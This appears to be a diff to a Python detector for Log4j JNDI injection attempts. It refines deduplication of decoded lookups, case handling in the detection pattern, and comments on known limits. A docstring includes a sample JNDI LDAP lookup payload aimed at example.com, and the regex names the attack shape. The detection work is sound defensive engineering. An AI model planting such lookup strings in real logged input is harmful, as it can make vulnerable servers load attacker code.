@@ -7,7 +7,7 @@ from collections.abc import Iterable
 from dataclasses import replace
 
 from detectors import commons_text, iocs
-from detectors.decoding import FORM, URL, Candidate, candidates
+from detectors.decoding import FORM, URL, Candidate, candidates, replay
 from detectors.interpreter import Evaluation, JndiCall, Limits, evaluate
 from detectors.model import (
     CVE_BYPASS,
@@ -23,6 +23,8 @@ from detectors.model import (
 )
 
 #: Longest value evaluated; the rest of a longer value is not looked at.
+# XXX(#3): a lookup placed after the first 64 KiB of a value is not seen; the
+# verdict then says limit_hit="length" so the record can still be looked at.
 MAX_LENGTH = 65_536
 
 _DECODING_TECHNIQUES = {
@@ -46,7 +48,7 @@ _NOT_OBFUSCATION = frozenset(
         "uncommon-scheme",
     }
 )
-_JNDI_SHAPE = re.compile(r"\$\{\s*j\s*n\s*d\s*i", re.IGNORECASE)
+_JNDI_SHAPE = re.compile(r"\$\{\s*j\s*n\s*d\s*i")
 
 
 def analyze(
@@ -83,12 +85,12 @@ def analyze(
                 inert = True
                 continue
             remote = True
-            found.setdefault((lookup.family, lookup.url), lookup)
+            _add(found, lookup)
         for bare in commons_text.lookups(text, candidate.decodings, limits):
             remote = True
             merged = {*bare.techniques, *_decoding_tags(candidate.decodings)}
             text_lookup = replace(bare, techniques=tuple(sorted(merged)))
-            found.setdefault((text_lookup.family, text_lookup.url), text_lookup)
+            _add(found, text_lookup)
         if not remote and _attack_shaped(text, evaluation):
             inert = True
             inert_tags |= (evaluation.techniques - _PER_CALL) | _decoding_tags(
@@ -136,6 +138,26 @@ def analyze_fields(
     )
 
 
+def _add(found: dict[tuple[str, str], Lookup], lookup: Lookup) -> None:
+    """Keep one Lookup per target; a more decoded sighting replaces a less decoded one.
+
+    ``${jndi:ldap:\\/\\/example.com\\/a}`` in a JSON body reaches Log4j either as
+    written or JSON-decoded; both name the same target, and the decoded URL is the
+    one worth reporting.
+    """
+    key = (lookup.family, lookup.url)
+    if key in found:
+        return
+    depth = len(lookup.decodings)
+    for old_key, old in list(found.items()):
+        shallower = len(old.decodings) < depth
+        if shallower and lookup.decodings[: len(old.decodings)] == old.decodings:
+            extra = lookup.decodings[len(old.decodings) :]
+            if old.family == lookup.family and replay(old.url, extra) == lookup.url:
+                del found[old_key]
+    found[key] = lookup
+
+
 def _may_decode_to_lookup(value: str) -> bool:
     """Cheap test on a parsed value: can any decoding give it a ``${``?"""
     return (
@@ -144,7 +166,6 @@ def _may_decode_to_lookup(value: str) -> bool:
         or "\\" in value
         or "&" in value
         or "asic" in value
-        or "ASIC" in value
     )
 
 
@@ -173,6 +194,9 @@ def _jndi_lookup(
 ) -> Lookup | None:
     """A Lookup for a JNDI call that leaves the host, else None (a local name)."""
     scheme = iocs.jndi_scheme(call.name)
+    # XXX(#3): JNDI picks URL context factories by the scheme as written, so
+    # "LDAP://" fails on a stock JDK; it is still flagged because the attacker
+    # meant it and another JNDI provider may accept it. Not a false negative risk.
     if scheme is None or scheme.lower() == "java":
         return None
     target = iocs.split_target(call.display)
@@ -228,7 +252,9 @@ def _attack_shaped(text: str, evaluation: Evaluation) -> bool:
     if commons_text.shaped(text):
         return True
 
-    return _JNDI_SHAPE.search(text) is not None
+    lowered = text.lower()
+
+    return "jndi" in lowered and _JNDI_SHAPE.search(lowered) is not None
 
 
 __all__ = ["CVE_COMMONS_TEXT", "FAMILY_COMMONS_TEXT", "analyze", "analyze_fields"]
